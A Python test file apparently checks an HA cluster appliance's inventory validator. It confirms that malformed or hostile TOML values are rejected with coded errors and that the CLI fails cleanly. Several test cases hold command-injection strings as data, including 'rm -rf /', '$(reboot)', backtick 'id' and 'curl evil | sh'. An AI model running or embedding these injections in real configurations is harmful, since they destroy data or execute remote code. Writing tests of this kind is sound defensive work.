"""Inventory validation: every problem found in one run, each coded, with path, value and fix."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from appliance.inventory.load import load_site, read_inventory
from appliance.core.reports import CATALOGUE, ExitCode, ReportError, Severity
from tests.conftest import EXAMPLE, example_text, load_test_site


def codes_and_paths(path: Path) -> set[tuple[str, str]]:
    inventory, reports = read_inventory(path)
    return {(r.code, r.path) for r in reports if r.severity is Severity.ERROR}


def replace(text: str, old: str, new: str, count: int = 1) -> str:
    assert old in text, old
    return text.replace(old, new, count)


def test_example_inventory_is_valid_and_follows_the_seed():
    site = load_test_site()
    inv = site.inventory
    assert [n.name for n in inv.nodes] == ["cloud-cc01", "cloud-cc02"]
    assert (inv.drbd.cloud.resource, inv.drbd.vmdata.resource) == ("one-disk", "data-disk")
    assert inv.fencing.enabled and len(inv.fencing.devices) == 2
    assert [inv.server_id(n) for n in inv.nodes] == [10, 20]
    assert [inv.auto_increment_offset(n) for n in inv.nodes] == [1, 2]
    assert site.warnings == ()


@pytest.mark.parametrize("old,new,code,path", [
    ('san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"', "INVENTORY_INVALID_ADDRESS", "nodes[1].san_ip"),
    ('name = "cloud-cc02"', 'name = "cloud-cc01"', "INVENTORY_DUPLICATE", "nodes[1].name"),
    ('name = "cloud-cc02"', 'name = "cc02; rm -rf /"', "INVENTORY_INVALID_NAME", "nodes[1].name"),
    ('name = "cloud-cc02"', 'name = "cloud-cc02\\nStrictHostKeyChecking no"', "INVENTORY_INVALID_NAME",
     "nodes[1].name"),
    ('mount = "/srv/cloud/one"', 'mount = "/srv/cloud/one\\n/etc"', "INVENTORY_INVALID_PATH", "filesystem.mount"),
    ('mount = "/srv/cloud/one"', 'mount = "/srv/$(reboot)"', "INVENTORY_INVALID_PATH", "filesystem.mount"),
    ('mount = "/srv/cloud/one"', 'mount = "/srv/../etc"', "INVENTORY_INVALID_PATH", "filesystem.mount"),
    ('lan_interface = "eth2"', 'lan_interface = "eth2`id`"', "INVENTORY_INVALID_INTERFACE", "nodes[0].lan_interface"),
    ('san_vip = "10.0.0.10"', 'san_vip = "10.9.9.9"', "INVENTORY_ADDRESS_OUTSIDE_NETWORK", "network.san_vip"),
    ('port = 7790', 'port = 7789', "INVENTORY_DUPLICATE", "drbd.vmdata.port"),
    ('token = 3000', 'token = 10', "INVENTORY_OUT_OF_RANGE", "corosync.token"),
    ('token = 3000', 'token = "3000"', "INVENTORY_WRONG_TYPE", "corosync.token"),
    ('stack = "corosync"', 'stack = "pacemaker-on-heartbeat"', "INVENTORY_INVALID_CHOICE", "cluster.stack"),
    ('stickiness = 1000', 'stickyness = 1000', "INVENTORY_UNKNOWN_FIELD", "cluster.stickyness"),
    ('node = "cloud-cc02"\nparams', 'node = "cloud-cc03"\nparams', "INVENTORY_UNKNOWN_NODE",
     "fencing.devices[1].node"),
    ('lanplus = true }\n\n[[hosts]]', 'lanplus = true, password = "hunter2" }\n\n[[hosts]]',
     "INVENTORY_UNKNOWN_FIELD", "fencing.devices[1].params.password"),
    ('tls = { generate = true }', 'tls = { certificate = "/etc/ssl/certs/ssl-cert-snakeoil.pem", '
     'key = "/etc/ssl/private/ssl-cert-snakeoil.key" }', "INVENTORY_SNAKEOIL_CERTIFICATE", "proxy.tls.certificate"),
    ('tls = { generate = true }', 'tls = { certificate = "/etc/ssl/site.pem" }', "INVENTORY_TLS_INCOMPLETE",
     "proxy.tls"),
    ('export = "/srv/cloud/one"', 'export = "/srv/cloud"', "INVENTORY_INVALID_PATH", "nfs.export"),
    ('address = "10.0.0.103"', 'address = "10.0.1.103"', "INVENTORY_ADDRESS_OUTSIDE_NETWORK", "hosts[2].address"),
    ('auto_increment_increment = 10', 'auto_increment_increment = 1', "INVENTORY_OUT_OF_RANGE",
     "database.auto_increment_increment"),
])
def test_bad_value_is_reported_with_code_and_path(make_inventory, old, new, code, path):
    problems = codes_and_paths(make_inventory(replace(example_text(), old, new)))
    assert (code, path) in problems


def test_missing_required_field_is_named(make_inventory):
    text = replace(example_text(), 'lan_ip = "192.168.10.12"\n', "")
    assert ("INVENTORY_MISSING_FIELD", "nodes[1].lan_ip") in codes_and_paths(make_inventory(text))


def test_every_problem_is_reported_in_one_run(make_inventory):
    text = replace(example_text(), 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"')
    text = replace(text, 'mount = "/srv/cloud/one"', 'mount = "relative/path"')
    text = replace(text, 'token = 3000', 'token = 5')
    problems = codes_and_paths(make_inventory(text))
    assert {("INVENTORY_INVALID_ADDRESS", "nodes[1].san_ip"), ("INVENTORY_INVALID_PATH", "filesystem.mount"),
            ("INVENTORY_OUT_OF_RANGE", "corosync.token")} <= problems


def test_cross_field_problems_are_all_reported_together(make_inventory):
    text = replace(example_text(), 'name = "cloud-cc02"', 'name = "cloud-cc01"')
    text = replace(text, 'port = 7790', 'port = 7789')
    text = replace(text, 'san_vip = "10.0.0.10"', 'san_vip = "10.0.0.1"')
    problems = {code for code, _ in codes_and_paths(make_inventory(text))}
    assert problems >= {"INVENTORY_DUPLICATE"}
    assert len([p for p in codes_and_paths(make_inventory(text)) if p[0] == "INVENTORY_DUPLICATE"]) >= 3


def test_three_nodes_are_refused(make_inventory):
    text = example_text()
    start = text.index("[[nodes]]", text.index("[[nodes]]") + 1)
    block = text[start:text.index("[corosync]")]
    text = text.replace(block, block + block.replace("cloud-cc02", "cloud-cc03").replace(".12", ".13")
                        .replace("10.0.0.2", "10.0.0.3"))
    assert ("INVENTORY_NODE_COUNT", "nodes") in codes_and_paths(make_inventory(text))


def test_fencing_without_a_device_per_node_is_refused(make_inventory):
    text = example_text()
    second = text.rindex("[[fencing.devices]]")
    text = text[:second] + text[text.index("[[hosts]]"):]
    assert ("INVENTORY_FENCING_INCOMPLETE", "fencing.devices") in codes_and_paths(make_inventory(text))


def test_fencing_disabled_is_a_loud_warning_not_a_silent_default(make_inventory):
    text = replace(example_text(), "enabled = true", "enabled = false")
    inventory, reports = read_inventory(make_inventory(text))
    assert inventory is not None
    assert [(r.code, r.severity) for r in reports] == [("INVENTORY_FENCING_DISABLED", Severity.WARNING)]


def test_not_toml_at_all(make_inventory):
    inventory, reports = read_inventory(make_inventory("this is [not toml"))
    assert inventory is None and [r.code for r in reports] == ["INVENTORY_NOT_TOML"]


def test_binary_garbage_is_reported_not_raised(tmp_path):
    path = tmp_path / "garbage.toml"
    path.write_bytes(b"\xff\xfe\x00\x01" * 10)
    inventory, reports = read_inventory(path)
    assert inventory is None and reports[0].code == "INVENTORY_NOT_TOML"


def test_missing_file(tmp_path):
    inventory, reports = read_inventory(tmp_path / "nope.toml")
    assert [r.code for r in reports] == ["INVENTORY_UNREADABLE"]


def test_every_code_has_a_fix_and_an_exit_code():
    for code, entry in CATALOGUE.items():
        assert isinstance(entry.exit, ExitCode) and entry.fix, code
        assert entry.http is None or 400 <= entry.http <= 599, code


# The CLI end to end: exit code, coded JSON, no traceback, nothing contacted.
def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith("APPLIANCE_SECRET_")}
    return subprocess.run([sys.executable, "-m", "appliance", *args], capture_output=True, text=True,
                          env={**base, **(env or {})})


@pytest.mark.parametrize("edit", [
    lambda t: replace(t, 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"'),
    lambda t: replace(t, 'name = "cloud-cc02"', 'name = "cloud-cc01"'),
    lambda t: replace(t, 'name = "cloud-cc02"', 'name = "x && curl evil | sh"'),
    lambda t: replace(t, 'mount = "/srv/cloud/one"', 'mount = "/srv/cloud/one\\nrm -rf /"'),
    lambda t: replace(t, 'lan_ip = "192.168.10.12"\n', ""),
    lambda t: "<?xml version='1.0'?><inventory/>",
    lambda t: "",
])
def test_hostile_inventory_exits_non_zero_with_coded_json_and_no_traceback(make_inventory, edit):
    path = make_inventory(edit(example_text()))
    result = run_cli("install", "--check", "-i", str(path), "--json")
    assert result.returncode == ExitCode.INVALID_INPUT
    assert "Traceback" not in result.stderr + result.stdout
    document = json.loads(result.stdout)
    assert document["ok"] is False
    assert document["reports"] and all(r["code"] in CATALOGUE and r["fix"] for r in document["reports"])


def test_hostile_inventory_text_output_names_path_and_fix(make_inventory):
    path = make_inventory(replace(example_text(), 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"'))
    result = run_cli("install", "--check", "-i", str(path))
    assert result.returncode == ExitCode.INVALID_INPUT
    assert "nodes[1].san_ip" in result.stderr and "10.0.0.300" in result.stderr and "fix:" in result.stderr
    assert "Traceback" not in result.stderr


def test_secrets_file_readable_by_others_is_refused(make_inventory, tmp_path):
    path = make_inventory()
    secrets = tmp_path / "two-node.secrets.toml"
    secrets.write_text('hacluster_password = "x"\n')
    secrets.chmod(0o644)
    result = run_cli("install", "--check", "-i", str(path), "--json")
    assert result.returncode == ExitCode.INVALID_INPUT
    codes = [r["code"] for r in json.loads(result.stdout)["reports"]]
    assert codes == ["SECRETS_PERMISSIONS"]


def test_invalid_inventory_contacts_nothing(make_inventory, no_contact):
    path = make_inventory(replace(example_text(), 'san_ip = "10.0.0.2"', 'san_ip = "999.0.0.2"'))
    with pytest.raises(ReportError):
        load_site(path, require_secrets=False)


def test_unknown_flag_is_a_usage_error():
    result = run_cli("install", "--chekc", "-i", str(EXAMPLE))
    assert result.returncode == ExitCode.USAGE
